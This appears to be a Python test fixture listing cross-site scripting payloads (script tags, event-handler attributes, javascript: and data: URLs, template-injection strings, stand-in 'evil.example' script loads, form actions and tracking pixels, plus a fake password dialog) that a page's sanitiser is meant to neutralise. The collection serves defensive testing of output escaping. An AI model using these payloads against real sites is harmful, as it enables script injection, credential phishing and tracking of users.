"""What a model, a tool or a stranger may say so as to be taken for markup or script. Each carries a mark that a page must not turn
into an element or an attribute.
"""

from __future__ import annotations

TAGS = [
    "<script data-xss>alert(1)</script>",
    "<script data-xss src=//evil.example/x.js></script>",
    "</script><script data-xss>alert(1)</script>",
    "<ScRiPt data-xss>alert(1)</sCrIpT>",
    "<<script data-xss>alert(1)//<</script>",
    "<script data-xss type=module>import('//evil.example/x.js')</script>",
    "<img data-xss src=x onerror=alert(1)>",
    "<img data-xss src=//evil.example/pixel.png>",
    "<img data-xss src='data:text/html,<script>alert(1)</script>'>",
    '"><img data-xss src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) data-xss='",
    '" onmouseover="alert(1)" data-xss="',
    "<svg data-xss onload=alert(1)>",
    "<svg data-xss><script>alert(1)</script></svg>",
    "<svg data-xss><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg data-xss><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg data-xss><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'></svg>",
    "<svg data-xss><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math data-xss><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe data-xss src=javascript:alert(1)></iframe>",
    "<iframe data-xss srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data-xss data=//evil.example/x.swf></object>",
    "<embed data-xss src=//evil.example/x>",
    "<link data-xss rel=stylesheet href=//evil.example/x.css>",
    "<link data-xss rel=preload as=image href=//evil.example/x.png>",
    "<meta data-xss http-equiv=refresh content='0;url=//evil.example'>",
    "<base data-xss href=//evil.example/>",
    "<form data-xss action=//evil.example><input name=q><button>Go</button></form>",
    "<input data-xss autofocus onfocus=alert(1)>",
    "<details data-xss open ontoggle=alert(1)>x</details>",
    "<video data-xss><source onerror=alert(1)></video>",
    "<audio data-xss src=//evil.example/x.ogg autoplay>",
    "<body data-xss onload=alert(1)>",
    "<style data-xss>*{background:url(//evil.example/x.png)}</style>",
    "<div data-xss style='background:url(//evil.example/x.png);position:fixed;inset:0'>x</div>",
    "<template data-xss><script>alert(1)</script></template>",
    "<noscript data-xss><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img data-xss src=x onerror=alert(1)>-->",
    "<![CDATA[<script data-xss>alert(1)</script>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script data-xss>alert(1)</script></x>",
    "<a data-xss href=javascript:alert(1)>click</a>",
    "<dialog data-xss open>Your session has ended: <input type=password></dialog>",
]
TEXTS = [
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![pixel](http://evil.example/pixel.png)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{7*7}<%= 7*7 %>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\u202ethis is turned around\u202c",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028</script>\u2029",
    "__proto__",
    "constructor",
    "--></script></style></title></textarea>",
]
PAYLOADS = [*TAGS, *TEXTS]
"""All of them."""

PICTURES = [
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
    "javascript:alert(1)",
    "http://evil.example/pixel.png",
    "//evil.example/pixel.png",
    'data:image/png;base64,AAAA" onerror="alert(1)',
]
"""Addresses that a picture must not have."""
